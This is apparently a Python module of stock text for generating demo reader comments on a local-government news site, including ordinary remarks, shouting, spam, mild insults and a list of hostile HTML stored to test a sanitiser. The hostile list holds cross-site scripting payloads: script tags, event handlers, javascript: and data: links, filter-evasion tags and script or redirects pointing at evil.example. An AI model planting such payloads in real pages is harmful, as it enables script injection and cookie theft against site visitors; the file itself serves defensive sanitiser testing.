"""Stock text for demo reader comments: ordinary remarks, replies, shouting, spam and attacks.

Ordinary remarks are built from an opener, a point and a closer, so a few hundred comments
rarely repeat. The spam and hostile-HTML stock is what a real comment form receives; it is
stored raw (comments are untrusted) and only ever shown through the sanitiser.
"""

from __future__ import annotations

OPENERS = (
    "Good piece.", "Interesting read.", "As a councillor, I recognise this.", "Spot on.",
    "I work in {service} and", "Speaking as a resident of {place},", "Fair points, but",
    "This matches what we see locally.", "Thanks for writing this.", "Hmm.",
    "Twenty years in local government tells me", "From the frontline:", "Not convinced.",
    "Worth saying out loud:", "A useful summary.", "I'd add one thing.",
    "Having sat on a scrutiny panel,", "Our parish council discussed exactly this.",
    "Retired officer here.", "Honest question:",
)
POINTS = (
    "the money always arrives a year after the need does",
    "nobody asks the people who actually use {service} what would help",
    "the consultation closed before most of us had heard about it",
    "we lost our best caseworkers to agency roles paying twice as much",
    "the pilot in {place} worked because the same team stayed for three years",
    "one-year settlements make any long-term plan a work of fiction",
    "the combined authority feels further away than Whitehall some days",
    "the new online form is genuinely better than the old phone line",
    "prevention budgets are the first thing cut and the last thing restored",
    "housing and health teams still do not share a single case record",
    "the audit backlog means members are voting on numbers nobody has checked",
    "the mayor's transport plan has made a real difference to my commute",
    "waiting lists for {service} in {place} have doubled since last spring",
    "the voluntary sector is propping up services it was never funded for",
    "temporary accommodation costs are eating the rest of the housing budget",
    "digital by default leaves out a lot of older residents unless libraries help",
    "the discharge team at our hospital now phones the council every morning",
    "council tax bands from decades ago make no sense in today's market",
    "planning officers are so stretched that enforcement barely exists",
    "the shared dashboard has ended a lot of arguments about whose figures are right",
    "the reablement service got my mother home weeks sooner than expected",
    "every restructure costs a year of momentum",
    "the legacy system here still needs a contractor to run a monthly report",
    "bus franchising was the first thing residents actually noticed",
    "social rent is the only tenure that works for families on local wages",
)
CLOSERS = (
    "", "", "More of this, please.", "Let's see what the spending review brings.",
    "Would be good to hear from other areas.", "Happy to share what we did.",
    "Time will tell.", "The article is right to say so.", "Not sure the minister is listening.",
    "That is the real test.", "Thanks again.", "Anyone else seeing the same?",
)
REPLY_OPENERS = (
    "Agree with this.", "I'm not sure that's right.", "Same here.", "Good point.",
    "To be fair,", "That's been our experience too.", "Respectfully, no.",
    "Exactly what I was going to say.", "In our area it's the opposite:", "Thanks, useful.",
)
HEATED = (
    "This is the worst-run council in the region and the article lets them off lightly.",
    "Another puff piece for the mayor's office. Who paid for this?",
    "The author clearly has never had to use {service} in {place}.",
    "Typical. Consultants write reports, residents pay the bill.",
    "Utter nonsense from start to finish, and the figures are cherry-picked.",
    "The officers quoted here should be asked why they got it so wrong last year.",
)
SHOUTING = (
    "THIS COUNCIL HAS WASTED EVERY PENNY WE GAVE THEM",
    "NOBODY VOTED FOR A COMBINED AUTHORITY, NOBODY!",
    "FIX THE ROADS BEFORE YOU SPEND A PENNY ON APPS",
    "MY BINS HAVE NOT BEEN EMPTIED FOR THREE WEEKS",
    "WHY DOES NOBODY ANSWER THE PHONE AT THE TOWN HALL",
    "STOP BUILDING ON THE GREEN BELT AROUND {PLACE}",
    "COUNCIL TAX UP AGAIN AND SERVICES DOWN AGAIN",
)
PILL_SPAM = (
    "Buy {word} online no prescription, fast discreet delivery worldwide.",
    "Best prices on {word} and more, order today and save 80 percent.",
    "{word} 100mg lowest price guaranteed, shipped in 24 hours.",
)
PILL_WORDS = ("viagra", "Viagra", "CIALIS", "cialis", "xanax", "Tramadol")
ABUSE = (
    "Only {word} would believe a word of this.",
    "The councillors responsible are {word}, the lot of them.",
    "Written by {word} for {word}.",
)
ABUSE_WORDS = ("halfwits", "scumbags")
CRYPTO_SPAM = (
    "Made £4,000 last month with {w1}. {w2} with no experience needed.",
    "Forget council pensions, {w1} is the future. {w2} every single week.",
    "My uncle retired early thanks to {w1} trading. {w2}, ask me how.",
)
CRYPTO_W1 = ("crypto", "bitcoin", "Bitcoin", "Crypto")
CRYPTO_W2 = ("guaranteed returns", "Guaranteed returns", "work from home",
             "Work from home")
SITE_SPAM = (
    "Great article!! visit my site for more {topic} tips {url1}",
    "Very informative. Please visit my site {url1} and also {url2} and {url3}",
    "Click here for cheap meds and more {url1} {url2} {url3} {url4}",
    "Nice blog, visit my site {url1}",
)
SPAM_TOPICS = ("casino", "money", "SEO", "dating", "loans")
SPAM_DOMAINS = (
    "cheap-pills-now.example", "best-casino-bonus.example", "seo-rank-fast.example",
    "crypto-moon-profit.example", "payday-loans-today.example", "hot-singles-nearby.example",
)
LINK_LISTS = (
    "Sources: {url1} and {url2} and {url3}",
    "For anyone interested: {url1} {url2} {url3} {url4}",
    "The committee papers are here {url1}, the minutes {url2} and the budget {url3}",
)
USEFUL_DOMAINS = (
    "https://example.gov.uk/committee-papers", "https://example.gov.uk/budget-book",
    "https://example.org/research/local-finance", "https://example.org/data/housing-waiting-list",
    "https://example.gov.uk/consultations/transport", "https://example.org/briefings/care-costs",
)
HOSTILE_HTML = (
    "<script>alert('pwned')</script>Great article!",
    "<img src=x onerror=alert(document.cookie)> nice",
    "<a href=\"javascript:alert(1)\">read more</a>",
    "<svg onload=alert(1)></svg>I agree with the author.",
    "<iframe src=\"https://evil.example/frame\"></iframe>",
    "<body onload=alert('x')>hello</body>",
    "<div style=\"background:url(javascript:alert(1))\">styled</div>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">open</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(2)></style></mglyph>",
    "\"><script src=https://evil.example/x.js></script>",
    "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1>Thanks!",
    "<object data=\"javascript:alert(1)\"></object>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
)
HOSTILE_CLICK = (
    "<a href=\"javascript:alert('x')\">click here</a> for the real figures",
    "<a href=\"javascript:void(document.location='https://evil.example')\">Click here</a>",
)
DISPLAY_HANDLES = (
    "Ratepayer", "CouncilWatcher", "localgov_nerd", "Concerned of {place}", "Frontline Nurse",
    "Retired Planner", "Parish Clerk", "Bus User", "OldTownResident", "Scrutiny Fan",
    "CareWorker{n}", "Taxpayer{n}", "Commuter {place}",
)
SPAMMER_NAMES = (
    "Best Deals {n}", "crypto_king{n}", "SEO Expert {n}", "pharma-shop{n}", "Lucky Winner {n}",
    "Loan Advisor {n}",
)
